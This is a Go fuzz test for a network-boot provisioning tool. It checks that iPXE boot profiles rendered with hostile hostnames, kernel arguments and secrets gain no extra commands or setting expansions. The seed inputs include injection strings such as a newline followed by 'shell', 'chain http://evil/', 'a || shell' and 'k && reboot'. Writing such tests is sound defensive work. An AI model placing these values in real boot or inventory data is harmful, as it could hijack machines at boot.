package profile_test

import (
	"strings"
	"testing"

	"github.com/provisiond/provisiond/internal/profile"
	"github.com/provisiond/provisiond/profiles"
)

// FuzzRender renders every built-in profile with hostile inventory values
// (name, hostname, address, kernel arguments, parameters) and hostile
// secrets (Omni's join token, the munge key). A render either fails with an
// error or has exactly the shape of the same render with harmless values:
// the same lines, each starting with the same iPXE command, so no value
// can add a command, a label or a setting expansion. Secrets land verbatim
// where they belong and nowhere else.
func FuzzRender(f *testing.F) {
	f.Add("BLD-006", "bld-006.lab", "192.0.2.60", "console=ttyS0,115200", "quiet", "https://omni.example.com:8090/", "tok3n-value")
	f.Add("x\nshell", "h\r\nchain http://evil/", "${ip}", "a || shell", "#!ipxe", "$(x)", "tok\nshell")
	f.Add("a&&b", "host #comment", "::1", "x\x00y", "${net0/mac}", "http://o/?a=${x}", "k && reboot")
	set, err := profile.Load(profiles.FS, "")
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, name, hostname, ip, kargs, cmdline, omni, secret string) {
		hostile := data(name, hostname, ip, kargs, cmdline, omni, secret)
		benign := data(same(name), same(hostname), same(ip), same(kargs), same(cmdline), same(omni), same(secret))
		for _, p := range set.List() {
			r, err := p.Render(hostile)
			if err != nil {
				continue
			}
			want, err := p.Render(benign)
			if err != nil {
				t.Fatalf("%s: hostile values rendered but harmless ones fail: %v", p.Name, err)
			}
			got, ref := lines(string(r.Script)), lines(string(want.Script))
			if len(got) != len(ref) {
				t.Fatalf("%s: %d lines, want %d:\n%s", p.Name, len(got), len(ref), r.Script)
			}
			for i := range got {
				if firstToken(got[i]) != firstToken(ref[i]) {
					t.Fatalf("%s: line %d starts %q, want %q:\n%s", p.Name, i+1, firstToken(got[i]), firstToken(ref[i]), r.Script)
				}
				if strings.Count(got[i], "${") != strings.Count(ref[i], "${") {
					t.Fatalf("%s: line %d gained a setting expansion: %q", p.Name, i+1, got[i])
				}
			}
			if secret != "" && strings.Contains(string(r.Script), "jointoken=") && !strings.Contains(string(r.Script), "jointoken="+secret) {
				t.Fatalf("%s: join token not rendered verbatim:\n%s", p.Name, r.Script)
			}
			if len(p.Overlay) == 0 {
				continue
			}
			files, err := p.RenderOverlay(hostile)
			if err != nil {
				continue
			}
			for _, fl := range files {
				if fl.Path == "/etc/munge/munge.key" && string(fl.Data) != secret {
					t.Fatalf("%s: munge key %q, want %q", p.Name, fl.Data, secret)
				}
			}
		}
	})
}

// data is what a machine with these values sees; every secret parameter
// resolves to secret.
func data(name, hostname, ip, kargs, cmdline, omni, secret string) profile.Data {
	base := "http://192.0.2.2:8080"
	mac := "52:54:00:12:34:56"
	return profile.Data{
		Name: name, MAC: mac, Hostname: hostname, IP: ip, Netmask: "255.255.255.0", Gateway: "192.0.2.1", KernelArgs: kargs,
		Profile: "linux", BaseURL: base, CallbackURL: base + "/boot/" + mac + "/booted", ScriptURL: base + "/boot/" + mac + ".ipxe",
		ProfileURL: base + "/boot/" + mac + "/script?profile=", OverlayURL: base + "/boot/" + mac + "/overlay.cpio",
		Params: map[string]string{"kernel": "vmlinuz", "initrd": "initrd.img", "cmdline": cmdline, "omni_api": omni,
			"slurm_controller": "192.0.2.2", "callback": "true"},
		Menu:   []profile.MenuItem{{Name: "linux", Description: "Linux"}, {Name: "talos", Description: "Talos"}},
		Secret: func(string) (string, error) { return secret, nil },
		Extra: map[string]map[string]string{"talos": {"version": "v1.9.5", "schematic": "abc", "kernel": "talos/kernel-amd64",
			"initramfs": "talos/initramfs-amd64.xz", "cmdline": "talos.platform=metal console=ttyS0", "extensions": "siderolabs/intel-ucode", "why": "sample"}},
	}
}

// same is a harmless value with the same emptiness as v.
func same(v string) string {
	if v == "" {
		return ""
	}
	return "x"
}

func lines(s string) []string { return strings.Split(s, "\n") }

func firstToken(line string) string {
	f := strings.Fields(line)
	if len(f) == 0 {
		return ""
	}
	return f[0]
}
